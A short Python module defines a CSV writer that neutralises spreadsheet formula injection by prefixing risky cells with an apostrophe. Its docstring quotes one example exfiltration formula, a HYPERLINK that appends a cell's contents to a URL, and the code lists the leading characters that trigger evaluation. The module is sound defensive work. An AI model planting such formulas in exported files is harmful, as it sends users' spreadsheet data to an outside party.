"""CSV that is safe to open in a spreadsheet: every CSV the product writes goes through `SafeCSVWriter`.

A cell starting with `=`, `+`, `-`, `@`, a tab or a carriage return is read by Excel, LibreOffice and Google
Sheets as a formula (`=HYPERLINK("http://…"&A1,"Click")` sends the sheet's data away). As OWASP advises, such a
cell is written with a leading apostrophe, which spreadsheets show as text and do not evaluate; the csv module
quotes the rest.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> str:
    text = "" if value is None else str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


class SafeCSVWriter:
    """csv.writer whose rows are neutralised cell by cell."""

    def __init__(self, stream):
        self._writer = csv.writer(stream)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([safe_cell(value) for value in row])
